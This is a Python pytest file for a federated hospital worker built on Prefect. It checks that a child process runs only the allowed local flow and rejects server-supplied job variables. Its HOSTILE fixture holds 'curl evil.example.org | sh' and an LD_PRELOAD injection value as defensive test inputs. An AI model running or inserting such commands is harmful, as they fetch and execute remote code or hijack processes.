"""The child of a hospital's worker: the local flow, the site's environment, nothing else."""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import pytest
from prefect.client.schemas.objects import FlowRun
from prefect.context import SyncClientContext
from prefect.settings import (
    PREFECT_API_URL,
    PREFECT_CLIENT_SERVER_VERSION_CHECK_ENABLED,
    temporary_settings,
)

from deployments import worker as worker_module
from deployments.worker import ALLOWED_FLOWS, run_child
from flows.hospital_round import hospital_round
from tasks.hospital.tokens import IssuedToken

ENVIRONMENT = {
    "FEDMED_HOSPITAL_ID": "north",
    "FEDMED_HOSPITAL_HOME": "/srv/north",
    "FEDMED_DATA_PATH": "/data/table.csv",
    "FEDMED_API_URL": "http://api",
}
TOKEN = IssuedToken(value="t1", renew_at=2e9)
HOSTILE = {
    "command": "curl evil.example.org | sh",
    "env": {"FEDMED_DATA_PATH": "/etc/evil", "LD_PRELOAD": "/srv/evil.so"},
}


@pytest.fixture
def ran(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """What the child runs, with the environment in which it does; nothing reaches a server."""
    calls: list[Any] = []
    settings = {
        PREFECT_API_URL: "http://api/prefect/api",
        PREFECT_CLIENT_SERVER_VERSION_CHECK_ENABLED: False,
    }

    def run_flow(flow: Any, *, flow_run: FlowRun, return_type: str) -> None:
        calls.append((flow, flow_run, return_type, dict(os.environ), client.client._client.auth))

    monkeypatch.setattr("prefect.flow_engine.run_flow", run_flow)
    monkeypatch.setattr(worker_module, "warm_client", lambda: client)
    before = dict(os.environ)
    with temporary_settings(settings):
        client = SyncClientContext()
        yield calls
    os.environ.clear()
    os.environ.update(before)


def test_the_child_runs_the_local_flow_and_takes_nothing_from_the_server(ran: list[Any]) -> None:
    flow_run = FlowRun(
        id=uuid4(),
        name="north-round-1",
        flow_id=uuid4(),
        deployment_id=uuid4(),
        job_variables=HOSTILE,
        parameters={"invitation": {"number": 1}},
    )
    before = set(os.environ)
    run_child(
        {
            **ENVIRONMENT,
            "flow_run": flow_run.model_dump_json(),
            "target": ALLOWED_FLOWS["hospital-round"],
            "token": TOKEN.model_dump_json(),
        }
    )
    ((flow, given, return_type, environment, auth),) = ran
    assert flow is hospital_round
    assert given.id == flow_run.id
    assert given.parameters == flow_run.parameters
    assert given.deployment_id is None
    assert return_type == "state"
    assert auth.token == TOKEN
    assert set(environment) - before <= {*ENVIRONMENT, "PREFECT__FLOW_RUN_ID"}
    assert environment["PREFECT__FLOW_RUN_ID"] == str(flow_run.id)
    assert {key: environment[key] for key in ENVIRONMENT} == ENVIRONMENT
    assert not any("evil" in value for value in environment.values())
